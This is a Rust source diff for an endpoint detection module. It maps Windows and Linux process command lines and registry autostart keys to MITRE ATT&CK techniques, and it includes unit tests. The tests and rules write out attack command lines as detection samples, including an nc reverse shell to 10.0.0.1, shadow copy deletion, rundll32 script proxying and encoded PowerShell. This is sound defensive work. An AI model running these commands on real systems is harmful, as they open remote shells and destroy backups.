@@ -0,0 +1,343 @@
+// MITRE ATT&CK technique inference
+// Maps process image names and command lines to (tactic, technique) pairs
+// using an ordered, user-extensible rule table, and registry keys to
+// persistence techniques.
+
+use anyhow::{Context, Result};
+use serde::Deserialize;
+use tracing::info;
+
+/// Built-in rules: (images, any-of argument substrings, tactic, technique).
+/// An empty argument list matches every invocation of the image.
+const DEFAULT_RULES: &[(&[&str], &[&str], &str, &str)] = &[
+    // Encoded PowerShell payloads
+    (&["powershell", "pwsh"], &["-enc", " -e ", " -ec "], "TA0002_Execution", "T1059.001"),
+    // Account and owner discovery
+    (&["whoami"], &[], "TA0007_Discovery", "T1033"),
+    (&["net", "net1"], &[" user", " localgroup", " group"], "TA0007_Discovery", "T1087"),
+    // rundll32 proxying script, ordinal exports, or DLLs from writable dirs
+    (
+        &["rundll32"],
+        &["javascript:", ",#", "\\appdata\\", "\\temp\\", "\\users\\public\\"],
+        "TA0005_Defense_Evasion",
+        "T1218.011",
+    ),
+    // certutil as a downloader
+    (&["certutil"], &["-urlcache", "-split"], "TA0011_Command_and_Control", "T1105"),
+    // Shadow copy deletion ahead of ransomware
+    (&["vssadmin"], &["delete shadows"], "TA0040_Impact", "T1490"),
+];
+
+/// Tactic of registry writes to an autostart location.
+pub const PERSISTENCE_TACTIC: &str = "TA0003_Persistence";
+
+/// Registry keys that make Windows launch code, relative to the hive root
+/// and lowercased, with the technique a write to them indicates. Subkeys match too.
+const AUTOSTART_KEYS: &[(&str, &str)] = &[
+    // Run keys (HKLM and per-user)
+    ("software\\microsoft\\windows\\currentversion\\run", "T1547.001"),
+    ("software\\microsoft\\windows\\currentversion\\runonce", "T1547.001"),
+    ("software\\microsoft\\windows\\currentversion\\runonceex", "T1547.001"),
+    ("software\\microsoft\\windows\\currentversion\\runservices", "T1547.001"),
+    ("software\\microsoft\\windows\\currentversion\\runservicesonce", "T1547.001"),
+    ("software\\microsoft\\windows\\currentversion\\policies\\explorer\\run", "T1547.001"),
+    ("software\\microsoft\\windows\\currentversion\\explorer\\user shell folders", "T1547.001"),
+    // Winlogon Userinit / Shell / Notify
+    ("software\\microsoft\\windows nt\\currentversion\\winlogon", "T1547.004"),
+    // Active Setup stub paths
+    ("software\\microsoft\\active setup\\installed components", "T1547.014"),
+    // Authentication and security support packages
+    ("system\\currentcontrolset\\control\\lsa", "T1547.002"),
+    // Service definitions
+    ("system\\currentcontrolset\\services", "T1543.003"),
+];
+
+/// Technique for a write to `key_path` if it is a known autostart location.
+///
+/// Accepts kernel paths (`\REGISTRY\MACHINE\...`, `\REGISTRY\USER\<sid>\...`)
+/// as well as `HKLM\` / `HKCU\` forms, in any case. `Wow6432Node` views and
+/// numbered control sets resolve to the same keys.
+pub fn autostart_technique(key_path: &str) -> Option<&'static str> {
+    let key = hive_relative_key(key_path)?;
+    AUTOSTART_KEYS
+        .iter()
+        .find(|(prefix, _)| {
+            key.strip_prefix(prefix).is_some_and(|rest| rest.is_empty() || rest.starts_with('\\'))
+        })
+        .map(|(_, technique)| *technique)
+}
+
+/// Lowercased path below the hive root with views folded onto the native keys,
+/// or `None` for paths outside HKLM and the user hives.
+fn hive_relative_key(key_path: &str) -> Option<String> {
+    let path = key_path.trim_matches('\\').to_lowercase();
+    let mut parts = path.split('\\');
+
+    match parts.next()? {
+        "registry" => match parts.next()? {
+            "machine" => {}
+            // Skip the SID (or _Classes suffix) of the user hive
+            "user" => {
+                parts.next()?;
+            }
+            _ => return None,
+        },
+        "hklm" | "hkey_local_machine" | "hkcu" | "hkey_current_user" => {}
+        "hku" | "hkey_users" => {
+            parts.next()?;
+        }
+        _ => return None,
+    }
+
+    let mut relative: Vec<&str> = parts.collect();
+    match relative.as_slice() {
+        ["software", "wow6432node", ..] => {
+            relative.remove(1);
+        }
+        ["system", control_set, ..] if is_numbered_control_set(control_set) => {
+            relative[1] = "currentcontrolset";
+        }
+        _ => {}
+    }
+    Some(relative.join("\\"))
+}
+
+/// `controlset001` and friends, which `CurrentControlSet` links to.
+fn is_numbered_control_set(name: &str) -> bool {
+    name.strip_prefix("controlset")
+        .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
+}
+
+/// A single technique rule. Rules are evaluated in order; the first match wins.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+pub struct TechniqueRule {
+    /// Image names the rule applies to, without directory or `.exe` suffix.
+    pub images: Vec<String>,
+    /// Substrings of which at least one must appear in the command line
+    /// (case-insensitive). Empty means any command line matches.
+    #[serde(default)]
+    pub args_contain: Vec<String>,
+    pub tactic: String,
+    pub technique: String,
+}
+
+/// On-disk rule file format for `load_rules_from_file`.
+#[derive(Deserialize)]
+struct RuleFile {
+    rules: Vec<TechniqueRule>,
+}
+
+/// Infers MITRE ATT&CK techniques for process events.
+#[derive(Debug, Clone)]
+pub struct TechniqueMatcher {
+    rules: Vec<TechniqueRule>,
+}
+
+impl Default for TechniqueMatcher {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl TechniqueMatcher {
+    /// Create a matcher with the built-in rule table.
+    pub fn new() -> Self {
+        let rules = DEFAULT_RULES
+            .iter()
+            .map(|(images, args, tactic, technique)| TechniqueRule {
+                images: images.iter().map(|s| s.to_string()).collect(),
+                args_contain: args.iter().map(|s| s.to_string()).collect(),
+                tactic: tactic.to_string(),
+                technique: technique.to_string(),
+            })
+            .collect();
+
+        Self::with_rules(rules)
+    }
+
+    /// Create a matcher with only the given rules.
+    pub fn with_rules(rules: Vec<TechniqueRule>) -> Self {
+        let mut matcher = Self { rules: Vec::new() };
+        for rule in rules {
+            matcher.add_rule(rule);
+        }
+        matcher
+    }
+
+    /// Append a rule; it is evaluated after every existing rule.
+    pub fn add_rule(&mut self, mut rule: TechniqueRule) {
+        // Normalize once so matching stays allocation-light
+        rule.images = rule.images.iter().map(|image| normalize_image(image)).collect();
+        rule.args_contain = rule.args_contain.iter().map(|arg| arg.to_lowercase()).collect();
+        self.rules.push(rule);
+    }
+
+    /// Append rules from a JSON file of the form `{"rules": [...]}`.
+    pub fn load_rules_from_file(&mut self, path: &str) -> Result<()> {
+        let contents = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read MITRE rule file: {}", path))?;
+        let file: RuleFile = serde_json::from_str(&contents)
+            .with_context(|| format!("Malformed MITRE rule JSON: {}", path))?;
+
+        let count = file.rules.len();
+        for rule in file.rules {
+            self.add_rule(rule);
+        }
+
+        info!("Loaded {} MITRE technique rules from {}", count, path);
+        Ok(())
+    }
+
+    pub fn rule_count(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// Return `(tactic, technique)` for the first rule matching this process.
+    /// `image` may be a bare name or a full path on either platform.
+    pub fn infer(&self, image: &str, cmdline: &str) -> Option<(&str, &str)> {
+        let image = normalize_image(image);
+        // Pad so patterns with a leading space also match the first argument
+        let cmdline = format!(" {} ", cmdline.to_lowercase());
+
+        self.rules
+            .iter()
+            .find(|rule| {
+                rule.images.contains(&image)
+                    && (rule.args_contain.is_empty()
+                        || rule.args_contain.iter().any(|arg| cmdline.contains(arg.as_str())))
+            })
+            .map(|rule| (rule.tactic.as_str(), rule.technique.as_str()))
+    }
+}
+
+/// Lowercased basename with any `.exe` suffix removed.
+fn normalize_image(image: &str) -> String {
+    let name = image.rsplit(['/', '\\']).next().unwrap_or(image).to_lowercase();
+    match name.strip_suffix(".exe") {
+        Some(stem) => stem.to_string(),
+        None => name,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn technique(image: &str, cmdline: &str) -> Option<String> {
+        TechniqueMatcher::new()
+            .infer(image, cmdline)
+            .map(|(_, technique)| technique.to_string())
+    }
+
+    #[test]
+    fn test_default_rules() {
+        assert_eq!(
+            technique(
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "powershell.exe -NoP -EncodedCommand SQBFAFgA",
+            ),
+            Some("T1059.001".to_string())
+        );
+        assert_eq!(technique("pwsh", "pwsh -e SQBFAFgA"), Some("T1059.001".to_string()));
+        assert_eq!(technique("whoami.exe", "whoami /all"), Some("T1033".to_string()));
+        assert_eq!(technique("net.exe", "net user /domain"), Some("T1087".to_string()));
+        assert_eq!(
+            technique("rundll32.exe", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""),
+            Some("T1218.011".to_string())
+        );
+        assert_eq!(
+            technique("RUNDLL32.EXE", "rundll32 C:\\Users\\bob\\AppData\\Local\\a.dll,#1"),
+            Some("T1218.011".to_string())
+        );
+        assert_eq!(
+            technique("vssadmin.exe", "vssadmin Delete Shadows /All /Quiet"),
+            Some("T1490".to_string())
+        );
+    }
+
+    #[test]
+    fn test_benign_commands_do_not_match() {
+        assert_eq!(technique("powershell.exe", "powershell -ExecutionPolicy Bypass -File a.ps1"), None);
+        assert_eq!(technique("net.exe", "net start spooler"), None);
+        assert_eq!(technique("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL"), None);
+        assert_eq!(technique("/usr/bin/bash", "bash -c ls"), None);
+    }
+
+    #[test]
+    fn test_infer_returns_tactic() {
+        let matcher = TechniqueMatcher::new();
+        assert_eq!(
+            matcher.infer("whoami", ""),
+            Some(("TA0007_Discovery", "T1033"))
+        );
+    }
+
+    #[test]
+    fn test_custom_rules_extend_table() {
+        let rule_file = tempfile::NamedTempFile::new().unwrap();
+        std::fs::write(
+            rule_file.path(),
+            r#"{"rules": [{"images": ["/usr/bin/nc"], "args_contain": ["-e "], "tactic": "TA0002_Execution", "technique": "T1059.004"}]}"#,
+        )
+        .unwrap();
+
+        let mut matcher = TechniqueMatcher::new();
+        let builtin = matcher.rule_count();
+        matcher.load_rules_from_file(rule_file.path().to_str().unwrap()).unwrap();
+
+        assert_eq!(matcher.rule_count(), builtin + 1);
+        assert_eq!(
+            matcher.infer("nc", "nc -e /bin/sh 10.0.0.1 4444"),
+            Some(("TA0002_Execution", "T1059.004"))
+        );
+        // Built-in rules still apply
+        assert_eq!(matcher.infer("whoami", "").map(|(_, t)| t), Some("T1033"));
+    }
+
+    #[test]
+    fn test_autostart_keys_are_classified() {
+        let cases = [
+            ("\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", Some("T1547.001")),
+            (
+                "\\REGISTRY\\USER\\S-1-5-21-1004336348-1177238915-682003330-512\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
+                Some("T1547.001"),
+            ),
+            ("HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", Some("T1547.001")),
+            ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001", Some("T1547.001")),
+            ("\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", Some("T1547.004")),
+            ("\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\EvilSvc", Some("T1543.003")),
+            ("HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc\\Parameters", Some("T1543.003")),
+            // Lookalikes and unrelated keys
+            ("\\REGISTRY\\USER\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", None),
+            ("\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Runner", None),
+            ("\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion", None),
+            ("\\REGISTRY\\MACHINE\\SYSTEM\\ControlSetX\\Services\\EvilSvc", None),
+            ("\\REGISTRY\\A\\{bb31}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", None),
+            ("", None),
+        ];
+
+        for (key, expected) in cases {
+            assert_eq!(autostart_technique(key), expected, "{}", key);
+        }
+    }
+
+    #[test]
+    fn test_first_matching_rule_wins() {
+        let matcher = TechniqueMatcher::with_rules(vec![
+            TechniqueRule {
+                images: vec!["whoami".to_string()],
+                args_contain: vec![],
+                tactic: "TA0007_Discovery".to_string(),
+                technique: "T1033".to_string(),
+            },
+            TechniqueRule {
+                images: vec!["whoami".to_string()],
+                args_contain: vec![],
+                tactic: "TA0007_Discovery".to_string(),
+                technique: "T9999".to_string(),
+            },
+        ]);
+
+        assert_eq!(matcher.infer("whoami", "").map(|(_, t)| t), Some("T1033"));
+    }
+}